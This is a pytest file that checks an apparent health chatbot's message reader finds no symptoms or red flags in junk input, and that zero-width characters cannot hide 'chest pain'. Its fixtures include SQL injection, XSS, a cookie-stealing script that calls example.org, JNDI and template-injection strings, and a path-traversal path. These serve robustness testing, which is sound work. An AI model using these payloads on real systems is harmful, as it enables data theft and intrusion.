"""What is no talk about anybody's health is read without an error, and nothing is found in it."""

from __future__ import annotations

import io
import json
from collections.abc import Iterable
from typing import Any

import pytest

from bot.nlu.reader import Reader
from bot.nlu.reading import read_message
from bot.understand import run
from knowledge.red_flags import screen
from knowledge.search.settings import build_folder

CHARACTERS = 4000
PROSE = (
    "The committee met on Wednesday and agreed the minutes of the last meeting. The treasurer "
    "reported that the new roof would cost less than expected, and the secretary read a letter "
    "from the council about the car park. "
)
JUNK = {
    "empty": "",
    "a blank": " ",
    "blanks": " \t\r\n \n\n\u00a0\u3000 ",
    "4,000 characters": (PROSE * 20)[:CHARACTERS],
    "far more than 4,000 characters": PROSE * 200,
    "emoji": "🦵🦴😀👩‍⚕️🏥🚑" * 30,
    "emoji in words' places": "🦵 🔥 😭 🏥",
    "arabic": "الطقس جميل اليوم وسنذهب إلى السوق بعد الظهر",
    "chinese": "今天天气很好，我们下午去公园散步",
    "japanese": "明日は図書館で本を借ります",
    "cyrillic": "Сегодня хорошая погода, мы пойдём в парк после обеда",
    "hindi": "आज मौसम अच्छा है और हम शाम को बाज़ार जाएँगे",
    "greek": "Ο καιρός είναι καλός σήμερα",
    "zero-width characters alone": "\u200b\u200c\u200d\u2060\ufeff",
    "zero-width characters inside words": "the li\u200bbrary o\u200cpens at ni\u200dne to\ufeffday",
    "text turned around": "\u202egninrom doog\u202c",
    "stacked accents": "t\u0301\u0302\u0303\u0304h\u0310\u0311e\u0301\u0302 c\u0327a\u0328t",
    "sql": "'; DROP TABLE sessions; SELECT * FROM users WHERE name = '' OR 1=1; --",
    "html": "<div class='box'><h1>Welcome</h1><img src=x onerror=alert(1)></div>",
    "script": "<script>fetch('//example.org/?c=' + document.cookie)</script>",
    "template": "{{7*7}} ${jndi:ldap://example.org/a} <%= system('id') %>",
    "control characters": "\x00\x01\x07\x08\x0b\x1b[31m\x7f\x85",
    "control characters between words": "good\x00 morning\x1b[0m every\x07body",
    "half a character": "\ud83e good morning \udc00",
    "json": '{"user": {"id": 17, "roles": ["admin", null]}, "ok": true}',
    "deep json": '{"a":' * 500 + "1" + "}" * 500,
    "a command": "/inform{}",
    "a path": "../../../../etc/passwd",
    "a long word": "a" * CHARACTERS,
    "a long word of many letters": "qwertyuiop" * 400,
    "one word a thousand times": "table " * 1000,
    "two words a thousand times": "of the " * 1000,
    "numbers": "12 7 2024 3.5 88 100000 0",
    "one number": "42",
    "a long number": "1234567890" * 40,
    "punctuation": "....!!!??? ;;; --- ///",
    "format strings": "%s%s%n %d {0} {name}",
    "base64": "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQsIGNvbnNlY3RldHVy",
    "latin": "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor",
    "keys at random": "asdf jkl; qwer zxcv hjkl uiop",
}
LISTS = ("present", "absent", "history", "uncertain")


@pytest.fixture(scope="module")
def parsed() -> dict[str, dict[str, Any]]:
    """What `bot.understand` prints for all of it, by name."""
    rows = printed(json.dumps({"text": text}) for text in JUNK.values())
    return dict(zip(JUNK, rows, strict=True))


def printed(lines: Iterable[str]) -> list[dict[str, Any]]:
    """Return the rows that `bot.understand` prints for its input, on an output like a pipe's."""
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    run(lines, Reader(build_folder() / "models").parse, out)
    out.flush()
    assert isinstance(out.buffer, io.BytesIO)
    return [json.loads(line) for line in out.buffer.getvalue().split(b"\n") if line]


@pytest.mark.parametrize("asked", [None, "location", "emergency_signs"])
@pytest.mark.parametrize("name", JUNK)
def test_nothing_is_found_in_it(name: str, asked: str | None) -> None:
    findings, words = read_message(JUNK[name], asked)
    assert {each: findings[each] for each in LISTS} == {each: [] for each in LISTS}
    assert screen(findings, words) is None


@pytest.mark.parametrize("name", JUNK)
def test_the_whole_of_understanding_finds_nothing(
    name: str, parsed: dict[str, dict[str, Any]]
) -> None:
    row = parsed[name]
    assert row["text"] == JUNK[name]
    assert row["findings"]["present"] == []
    assert row["red_flag"] is None
    assert row["intent"] != "report_red_flag"


@pytest.mark.parametrize("broken", ["ch\u200best pa\u200bin", "c\u200dhes\ufefft p\u2060ain"])
def test_zero_width_characters_hide_no_red_flag(broken: str) -> None:
    findings, words = read_message(f"i have {broken}")
    hit = screen(findings, words)
    assert hit is not None and hit.level == "emergency"


def test_raw_lines_are_read_as_they_come() -> None:
    lines = ["\n", "\x00\n", "[1, 2]\n", '{"text": 5}\n', "\ufffd\ufffd\n"]
    assert [row["red_flag"] for row in printed(lines)] == [None] * len(lines)
